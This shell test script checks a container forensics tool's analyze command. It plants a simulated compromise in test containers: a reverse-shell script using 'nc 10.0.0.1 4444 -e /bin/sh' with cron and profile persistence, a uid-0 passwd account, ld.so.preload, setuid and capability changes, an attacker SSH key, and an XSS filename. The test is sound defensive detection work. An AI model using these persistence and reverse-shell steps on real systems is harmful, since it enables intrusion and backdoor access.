#!/bin/bash
# t0901: contain analyze end to end on real containers of the fixture image.
#  A  a runc container with a planted compromise (a new ELF in /tmp, dropped
#     scripts in /tmp and /usr/local/bin, a uid-0 account in /etc/passwd,
#     /etc/ld.so.preload, setuid and a file capability added, a new binary
#     with a capability, root's authorized_keys, two executables deleted, an
#     opaque directory, a replaced binary and a replaced library, the dpkg
#     status changed, crontab/sshd_config/profile changed, a file named
#     `<img src=x onerror=alert(1)>`, a process whose executable was
#     deleted): captured, released, analyzed against the image as an OCI
#     layout, an oci-archive and a docker-archive. Each planted change is in
#     the diff with its kind, each in the findings with its id, severity and
#     ATT&CK id; the three forms give the same diff; exit 1 (--fail-on high);
#     mactime -b reads the bodyfile and lists the planted files; report.json
#     validates against docs/report-schema.json.
#  B  a Docker container, the same compromise, analyzed against the
#     docker-archive: the same filesystem findings, image.match "match";
#     against a modified copy of the image: image.digest-mismatch.
#  C  a clean runc container: no finding at or above medium, exit 0.
# The expected finding ids: docs/findings.md (src/analyze/findings.c).
. "$(dirname "$0")/../lib/lib.sh"
. "$CONTAIN_TOP/tests/lib/containers.sh"
. "$CONTAIN_TOP/tests/lib/daemons.sh"
need_root
need_cmd runc jq tar sha256sum setcap gcc mactime python3 timeout diff umoci
fixtures_ready || skip_all "no fixtures (run fixtures/build.sh)"
[ -x "$CONTAIN" ] || skip_all "no contain binary at $CONTAIN"
FX=$CONTAIN_TOP/fixtures/cache
IMG_OCI=$FX/oci
IMG_OCIA=$FX/fixture-oci.tar
IMG_DOCKER=$FX/fixture-docker.tar
for f in "$IMG_OCI/index.json" "$IMG_OCIA" "$IMG_DOCKER" "$FIXTURE_ROOTFS/var/lib/dpkg/status" \
	"$FIXTURE_ROOTFS/usr/sbin/fixture-ping"; do
	[ -e "$f" ] || skip_all "the fixture image is older than this test (no $f: run fixtures/build.sh)"
done
if "$CONTAIN" analyze --help 2>&1 | grep -qi 'unknown verb\|unknown command'; then
	in_ci && _t_bail "CI=true: contain has an analyze verb"
	skip_all "this contain has no analyze verb"
fi
SCHEMA=$CONTAIN_TOP/docs/report-schema.json

S=$$
HOSTILE='<img src=x onerror=alert(1)>'
sha() { sha256sum "$1" | cut -d' ' -f1; }

# the planted compromise's bytes, made once on the host
W=$T_DIR/plant
mkdir -p "$W"
cp /bin/true "$W/implant"                                  # a new (dynamic) ELF
printf '#!/bin/sh\nwhile :; do nc 10.0.0.1 4444 -e /bin/sh; sleep 60; done\n' >"$W/drop.sh"
printf '#!/bin/sh\n/tmp/drop.sh &\n' >"$W/update-check"
printf 'int fixture_answer(void) { return 666; }\n' >"$W/evil.c"
gcc -shared -fPIC -o "$W/libfixture.so" "$W/evil.c" || skip_all "cannot build the replacement library"
cp /bin/false "$W/memtarget"                               # other bytes
# the dpkg status: fixture-base removed, backdoor-tools added
python3 - "$FIXTURE_ROOTFS/var/lib/dpkg/status" "$W/status" <<'EOF'
import sys
stanzas = open(sys.argv[1]).read().strip().split("\n\n")
stanzas = [s for s in stanzas if not s.startswith("Package: fixture-base\n")]
stanzas.append("Package: backdoor-tools\nStatus: install ok installed\nPriority: optional\n"
               "Section: net\nArchitecture: amd64\nVersion: 6.6.6-1\nDescription: not ours")
open(sys.argv[2], "w").write("\n\n".join(stanzas) + "\n")
EOF

# plant MERGED EXEC...: the compromise through the container's merged root
# (as a process inside would write it) and, for the process, EXEC (runc exec
# or docker exec): a copy of busybox run from /tmp/.x and deleted
plant() {
	local m=$1
	shift
	# the process first (before busybox becomes setuid)
	# (deleted once it runs from it: no fixed sleep, a loaded machine execs late)
	"$@" sh -c 'mkdir -p /tmp/.x && cp /bin/busybox /tmp/.x/sleep || exit 1
		/tmp/.x/sleep 100000 </dev/null >/dev/null 2>&1 &
		k=$! i=0
		until [ "$(readlink /proc/$k/exe)" = /tmp/.x/sleep ]; do
			i=$((i + 1)); [ $i -lt 300 ] || exit 1; sleep 0.1
		done
		rm -f /tmp/.x/sleep' </dev/null >/dev/null 2>&1 || return 1
	cp "$W/implant" "$m/tmp/implant" && chmod 0755 "$m/tmp/implant" &&
		install -m 0755 "$W/drop.sh" "$m/tmp/drop.sh" &&
		mkdir -p "$m/usr/local/bin" && install -m 0755 "$W/update-check" "$m/usr/local/bin/update-check" &&
		echo 'evil:x:0:0:planted:/root:/bin/sh' >>"$m/etc/passwd" &&
		echo '/tmp/.x/libevil.so' >"$m/etc/ld.so.preload" &&
		chmod u+s "$m/bin/busybox" &&
		setcap cap_net_raw+ep "$m/usr/sbin/fixture-ping" &&
		install -m 0755 /bin/true "$m/usr/local/bin/netprobe" &&
		setcap cap_net_raw,cap_net_admin+ep "$m/usr/local/bin/netprobe" &&
		mkdir -p "$m/root/.ssh" &&
		echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPlantedKeyPlantedKeyPlantedKeyPlanted attacker' \
			>"$m/root/.ssh/authorized_keys" &&
		rm -f "$m/bin/wget" "$m/usr/sbin/fixture-daemon" &&
		rm -rf "$m/opt/app" && mkdir "$m/opt/app" && echo 'new app' >"$m/opt/app/new" &&
		cat "$W/memtarget" >"$m/usr/bin/memtarget" &&
		cat "$W/libfixture.so" >"$m/usr/lib/libfixture.so" &&
		cat "$W/status" >"$m/var/lib/dpkg/status" &&
		echo '* * * * * /tmp/drop.sh' >>"$m/etc/crontabs/root" &&
		echo 'PermitRootLogin yes' >>"$m/etc/ssh/sshd_config" &&
		echo '/tmp/drop.sh >/dev/null 2>&1 &' >>"$m/etc/profile" &&
		echo x >"$m/tmp/$HOSTILE"
}

# The expected diff: "KIND PATH" (paths without a leading /)
DIFF_WANT=$(
	cat <<EOF
added tmp/implant
added tmp/drop.sh
added usr/local/bin/update-check
added usr/local/bin/netprobe
added etc/ld.so.preload
added root/.ssh/authorized_keys
added opt/app/new
added tmp/$HOSTILE
modified etc/passwd
modified usr/bin/memtarget
modified usr/lib/libfixture.so
modified var/lib/dpkg/status
modified etc/crontabs/root
modified etc/ssh/sshd_config
modified etc/profile
metadata bin/busybox
metadata usr/sbin/fixture-ping
deleted bin/wget
deleted usr/sbin/fixture-daemon
opaque opt/app
EOF
)
# The expected findings: "ID|PATH|SEVERITY|ATTACK" (the rule table of
# src/analyze/findings.c, docs/findings.md); a PATH of * is any path (a
# process). Severities: tmp/implant is critical (an ELF in a tmp dir),
# busybox's setuid critical (owner root), the passwd line critical (a new
# uid 0), sshd_config high (root login enabled), the capabilities high
# (cap_net_raw/cap_net_admin are not root-equivalent).
FIND_WANT=$(
	cat <<EOF
fs.new-executable|tmp/implant|critical|T1105
fs.new-executable|usr/local/bin/netprobe|high|T1105
fs.new-script|tmp/drop.sh|high|T1059.004
fs.new-script|usr/local/bin/update-check|high|T1059.004
fs.caps-added|usr/local/bin/netprobe|high|T1548
fs.caps-added|usr/sbin/fixture-ping|high|T1548
fs.setuid-added|bin/busybox|critical|T1548.001
fs.account-changed|etc/passwd|critical|T1136.001
fs.ld-preload|etc/ld.so.preload|critical|T1574.006
fs.ssh-authorized-keys|root/.ssh/authorized_keys|high|T1098.004
fs.sshd-config|etc/ssh/sshd_config|high|T1098.004
fs.cron-changed|etc/crontabs/root|high|T1053.003
fs.shell-profile|etc/profile|medium|T1546.004
fs.binary-replaced|usr/bin/memtarget|high|T1036
fs.binary-replaced|usr/lib/libfixture.so|high|T1036
fs.binary-deleted|usr/sbin/fixture-daemon|medium|T1070.004
fs.package-db-changed|var/lib/dpkg/status|medium|null
fs.dropped-file|tmp/$HOSTILE|low|T1074.001
proc.exe-deleted|tmp/.x/sleep|high|T1070.004
EOF
)

# check_report REPORT LABEL: every planted change in the diff with its kind
# and in the findings with its id, severity and ATT&CK id
check_report() {
	local r=$1 l=$2 kind path id p sev att got
	if [ ! -s "$r" ]; then
		_t_result 1 "$l: no report.json to check"
		return
	fi
	while read -r kind path; do
		ok "$l: diff.$kind has '$path'" \
			jq -e --arg k "$kind" --arg p "$path" '.diff[$k] | any(.path == $p)' "$r"
	done <<<"$DIFF_WANT"
	# hashes of the modified ones: the bag's and the image's
	is "$(jq -r '.diff.modified[] | select(.path == "usr/bin/memtarget") | "\(.sha256) \(.image_sha256)"' "$r")" \
		"$(sha "$W/memtarget") $(sha "$FIXTURE_ROOTFS/usr/bin/memtarget")" \
		"$l: the replaced binary's two hashes (bag, image)"
	is "$(jq -r '.diff.modified[] | select(.path == "usr/lib/libfixture.so") | "\(.sha256) \(.image_sha256)"' "$r")" \
		"$(sha "$W/libfixture.so") $(sha "$FIXTURE_ROOTFS/usr/lib/libfixture.so")" \
		"$l: the replaced library's two hashes (bag, image)"
	is "$(jq -r '.diff.added[] | select(.path == "tmp/implant") | .sha256' "$r")" "$(sha "$W/implant")" \
		"$l: the new ELF's hash"
	is "$(jq -r '.diff.added[] | select(.path == "tmp/implant") | .elf.class' "$r")" ELF64 \
		"$l: the new ELF is described as ELF64"
	is "$(jq -r '.diff.added[] | select(.path == "tmp/drop.sh") | .shebang' "$r")" /bin/sh \
		"$l: the dropped script's shebang"
	is "$(jq -r '.diff.added[] | select(.path == "usr/local/bin/netprobe") | .caps != null' "$r")" true \
		"$l: the new binary's capability is in the diff"
	like "$(jq -r '.diff.metadata[] | select(.path == "bin/busybox") | .changes[]' "$r")" '^setuid-added$' \
		"$l: busybox: setuid-added"
	is "$(jq -r '.diff.metadata[] | select(.path == "bin/busybox") | .mode' "$r")" 4755 \
		"$l: busybox's mode is 4755"
	like "$(jq -r '.diff.metadata[] | select(.path == "usr/sbin/fixture-ping") | .changes[]' "$r")" '^caps-added$' \
		"$l: fixture-ping: caps-added"
	is "$(jq -r '.diff.deleted[] | select(.path == "bin/wget") | .image_type' "$r")" symlink \
		"$l: the deleted /bin/wget was a symlink in the image"
	is "$(jq -r '.diff.opaque[] | select(.path == "opt/app") | .hidden' "$r")" 3 \
		"$l: the opaque opt/app hides the image's 3 files"
	while IFS='|' read -r id p sev att; do
		got=$(jq -r --arg i "$id" --arg p "$p" \
			'[.findings[] | select(.id == $i and ($p == "*" or .path == $p))][0]
			| if . == null then "none" else "\(.severity) \(.attack)" end' "$r")
		is "$got" "$sev $att" "$l: finding $id at $p: $sev, ATT&CK $att"
	done <<<"$FIND_WANT"
	like "$(jq -r '.findings[] | select(.id == "fs.package-db-changed") | .detail' "$r")" 'backdoor-tools' \
		"$l: the package db finding names the package that appeared"
	like "$(jq -r '.findings[] | select(.id == "fs.package-db-changed") | .detail' "$r")" 'fixture-base' \
		"$l: ... and the one that disappeared"
	like "$(jq -r '.findings[] | select(.id == "fs.account-changed") | .detail' "$r")" 'evil' \
		"$l: the passwd finding names the account added"
	is "$(jq -r '[.findings[] | select(.path == "tmp/drop.sh")][0].evidence.sha256' "$r")" "$(sha "$W/drop.sh")" \
		"$l: a finding's evidence has the file's hash"
	is "$(jq -r '.summary.verdict' "$r")" compromised "$l: verdict compromised"
	is "$(jq -r '.summary.failed' "$r")" true "$l: summary.failed"
	# sorted by severity, then path
	is "$(jq -c '[.findings[] | {critical:0,high:1,medium:2,low:3,info:4}[.severity]] | . == sort' "$r")" true \
		"$l: findings sorted by severity"
	is "$(jq '[.findings[] | "\(.id) \(.path)"] | length == (unique | length)' "$r")" true \
		"$l: no duplicate finding"
}

# validate REPORT LABEL: report.json against docs/report-schema.json
validate() {
	if [ ! -f "$SCHEMA" ]; then
		skip "$2: report.json validates against docs/report-schema.json" "no docs/report-schema.json"
		return
	fi
	if ! python3 -c 'import jsonschema' 2>/dev/null; then
		in_ci && { _t_result 1 "$2: CI=true: python3-jsonschema is installed"; return; }
		skip "$2: report.json validates against docs/report-schema.json" "no python3-jsonschema"
		return
	fi
	run python3 -c '
import json, sys, jsonschema
schema = json.load(open(sys.argv[1]))
doc = json.load(open(sys.argv[2]))
errs = sorted(jsonschema.Draft202012Validator(schema).iter_errors(doc), key=lambda e: list(e.path))
for e in errs[:10]:
    print("/".join(map(str, e.path)), e.message[:200])
sys.exit(1 if errs else 0)' "$SCHEMA" "$1"
	is "$RC" 0 "$2: report.json validates against docs/report-schema.json"
	[ "$RC" -eq 0 ] || diag "$OUT $ERR"
}

# same A B DESC: files A and B hold the same, and something
same() {
	if [ -s "$1" ] && [ -s "$2" ]; then
		is "$(diff -u "$1" "$2" 2>&1)" "" "$3"
	else
		_t_result 1 "$3 (nothing to compare)"
	fi
}

# analyze BAG IMG DIR [args]: run it, RC OUT ERR
analyze() {
	local bag=$1 img=$2 dir=$3
	shift 3
	run timeout 300 "$CONTAIN" analyze "$bag" --image "$img" -o "$dir" "$@"
}

# ---------------------------------------------------------------- A
section "A: runc"
A=t0901-$S-a
runc_run "$A" || section_skip "cannot start a runc container"
ok "A: the compromise is planted" plant "$CMERGED" runc_exec "$A"
ok "A: the deleted-executable process runs" \
	wait_for 20 sh -c "ls -l /proc/*/exe 2>/dev/null | grep -q '/tmp/.x/sleep (deleted)'"
BA=$T_DIR/bag-a
run timeout 120 "$CONTAIN" capture "$A" -o "$BA" --pcap-seconds 1 --no-memory
is "$RC" 0 "A: capture exits 0"
[ "$RC" -eq 0 ] || diag "$OUT $ERR"
run "$CONTAIN" release "$A"
is "$RC" 0 "A: release"
ok "A: the bag verifies" "$CONTAIN" verify "$BA"

for form in oci:"$IMG_OCI" ocia:"$IMG_OCIA" docker:"$IMG_DOCKER"; do
	f=${form%%:*} img=${form#*:}
	R=$T_DIR/rep-a-$f
	analyze "$BA" "$img" "$R"
	is "$RC" 1 "A/$f: analyze exits 1 (a finding at or above high)"
	[ "$RC" -eq 1 ] || diag "$(echo "$ERR" | head -5)"
	ok "A/$f: report.json, report.md, report.html, timeline.csv, bodyfile" \
		test -s "$R/report.json" -a -s "$R/report.md" -a -s "$R/report.html" -a -s "$R/timeline.csv" -a -s "$R/bodyfile"
	[ -s "$R/report.json" ] || continue
	form_want=$(case $f in oci) echo oci-layout ;; ocia) echo oci-archive ;; docker) echo docker-archive ;; esac)
	is "$(jq -r .image.form "$R/report.json")" "$form_want" "A/$f: image.form $form_want"
	is "$(jq -r .bag.verified "$R/report.json")" true "A/$f: bag.verified"
	jq -S .diff "$R/report.json" >"$T_DIR/diff-a-$f.json"
done
check_report "$T_DIR/rep-a-oci/report.json" "A/oci"
same "$T_DIR/diff-a-oci.json" "$T_DIR/diff-a-ocia.json" "A: oci-archive gives the OCI layout's diff"
same "$T_DIR/diff-a-oci.json" "$T_DIR/diff-a-docker.json" "A: docker-archive gives the OCI layout's diff"
RA=$T_DIR/rep-a-oci
# the same findings from the three forms (the image part aside)
fl() { jq -r '.findings[] | select(.id | startswith("image.") | not) | "\(.id) \(.severity) \(.path)"' "$1" 2>/dev/null; }
fl "$RA/report.json" >"$T_DIR/fl-oci"
fl "$T_DIR/rep-a-docker/report.json" >"$T_DIR/fl-docker"
same "$T_DIR/fl-oci" "$T_DIR/fl-docker" "A: docker-archive gives the OCI layout's findings"
validate "$RA/report.json" "A"

# the bodyfile through sleuthkit's mactime
run mactime -b "$RA/bodyfile" -z UTC -d
is "$RC" 0 "A: mactime -b accepts the bodyfile"
for p in /tmp/implant /tmp/drop.sh /etc/ld.so.preload /root/.ssh/authorized_keys /usr/bin/memtarget /etc/passwd; do
	like "$OUT" "$p" "A: mactime lists $p"
done
like "$(cat "$RA/timeline.csv")" 'tmp/implant' "A: timeline.csv lists the new ELF"
# the hostile name is text in the HTML, never markup
ok "A: report.html never carries the hostile name as markup" \
	sh -c "test -s '$RA/report.html' && ! grep -qF '$HOSTILE' '$RA/report.html'"
like "$(cat "$RA/report.html")" '&lt;img src=x onerror=alert\(1\)&gt;' "A: report.html shows the hostile name escaped"
like "$(cat "$RA/report.md")" 'ld\.so\.preload' "A: report.md names ld.so.preload"
# --json: report.json on stdout
run timeout 300 "$CONTAIN" analyze "$BA" --image "$IMG_OCI" -o "$T_DIR/rep-a-json" --json
is "$RC" 1 "A: analyze --json exits 1"
jq -S '.diff' <<<"$OUT" >"$T_DIR/diff-a-json.json" 2>/dev/null
same "$T_DIR/diff-a-oci.json" "$T_DIR/diff-a-json.json" "A: --json prints the report (same diff)"

# ---------------------------------------------------------------- B
section "B: docker"
need_b=1
CID=""
dockerd_up || { section_skip "cannot start a private dockerd"; need_b=0; }
if [ "$need_b" -eq 1 ]; then
	docker_run "t0901-$S-b" || section_skip "cannot run a docker container"
fi
ID=${CID:-}
BM=""
[ -n "$ID" ] && BM=$(dk inspect -f '{{.GraphDriver.Data.MergedDir}}' "$ID" 2>/dev/null)
ok "B: docker gives the merged dir" test -d "$BM"
ok "B: the compromise is planted" plant "$BM" dk exec -i "$ID"
BB=$T_DIR/bag-b
run timeout 120 "$CONTAIN" capture "${ID:0:12}" -o "$BB" --pcap-seconds 1 --no-memory
is "$RC" 0 "B: capture exits 0"
[ "$RC" -eq 0 ] || diag "$OUT $ERR"
run "$CONTAIN" release "${ID:0:12}"
is "$RC" 0 "B: release"
RB=$T_DIR/rep-b
analyze "$BB" "$IMG_DOCKER" "$RB"
is "$RC" 1 "B: analyze against the docker-archive exits 1"
[ "$RC" -eq 1 ] || diag "$(echo "$ERR" | head -5)"
ok "B: report.json" test -s "$RB/report.json"
if [ -s "$RB/report.json" ]; then
	check_report "$RB/report.json" "B"
	like "$(jq -r .container.image_digest "$RB/report.json")" '^sha256:[0-9a-f]{64}$' "B: the bag recorded the image digest"
	is "$(jq -r .image.match "$RB/report.json")" match "B: image.match is match"
	is "$(jq '[.findings[] | select(.id == "image.digest-mismatch")] | length' "$RB/report.json")" 0 \
		"B: no digest-mismatch finding"
	# the filesystem findings of runc and docker are the same
	ffl() { jq -r '.findings[] | select(.path != null and (.path | startswith("pid:") | not)) | select(.id | startswith("fs.")) | "\(.id) \(.severity) \(.path)"' "$1" 2>/dev/null | LC_ALL=C sort; }
	ffl "$RA/report.json" >"$T_DIR/ffl-a"
	ffl "$RB/report.json" >"$T_DIR/ffl-b"
	same "$T_DIR/ffl-a" "$T_DIR/ffl-b" "B: the same filesystem findings as the runc container"
	validate "$RB/report.json" "B"
fi
# a different image: a copy of the layout with another config
cp -a "$IMG_OCI" "$T_DIR/oci-other"
ok "B: a modified copy of the image (umoci config)" \
	umoci config --image "$T_DIR/oci-other:latest" --config.label contain.test=other
RM=$T_DIR/rep-b-mismatch
analyze "$BB" "$T_DIR/oci-other" "$RM"
is "$RC" 1 "B: analyze against another image exits 1"
is "$(jq -r .image.match "$RM/report.json" 2>/dev/null)" mismatch "B: image.match is mismatch"
is "$(jq -r '[.findings[] | select(.id == "image.digest-mismatch")][0].severity' "$RM/report.json" 2>/dev/null)" high \
	"B: an image.digest-mismatch finding (high)"
jq -S .diff "$RM/report.json" >"$T_DIR/diff-bm.json" 2>/dev/null
jq -S .diff "$RB/report.json" >"$T_DIR/diff-b.json" 2>/dev/null
same "$T_DIR/diff-b.json" "$T_DIR/diff-bm.json" "B: --image is still used (the same diff: the layers are the same)"

# ---------------------------------------------------------------- C
section "C: clean"
C=t0901-$S-c
runc_run "$C" || section_skip "cannot start a runc container"
BC=$T_DIR/bag-c
run timeout 120 "$CONTAIN" capture "$C" -o "$BC" --pcap-seconds 1 --no-memory
is "$RC" 0 "C: capture exits 0"
run "$CONTAIN" release "$C"
is "$RC" 0 "C: release"
RC_DIR=$T_DIR/rep-c
analyze "$BC" "$IMG_OCI" "$RC_DIR"
is "$RC" 0 "C: analyze of a clean container exits 0"
[ "$RC" -eq 0 ] || diag "$(jq -c '.findings[] | select(.severity != "info" and .severity != "low")' "$RC_DIR/report.json" 2>/dev/null | head -5)"
is "$(jq '[.findings[] | select(.severity == "critical" or .severity == "high" or .severity == "medium")] | length' "$RC_DIR/report.json" 2>/dev/null)" 0 \
	"C: no finding at or above medium"
is "$(jq -r .summary.verdict "$RC_DIR/report.json" 2>/dev/null)" clean "C: verdict clean"
analyze "$BC" "$IMG_OCI" "$T_DIR/rep-c-low" --fail-on info
ok "C: --fail-on info: exit 0 or 1, never an error" test "$RC" -eq 0 -o "$RC" -eq 1
validate "$RC_DIR/report.json" "C"

done_testing
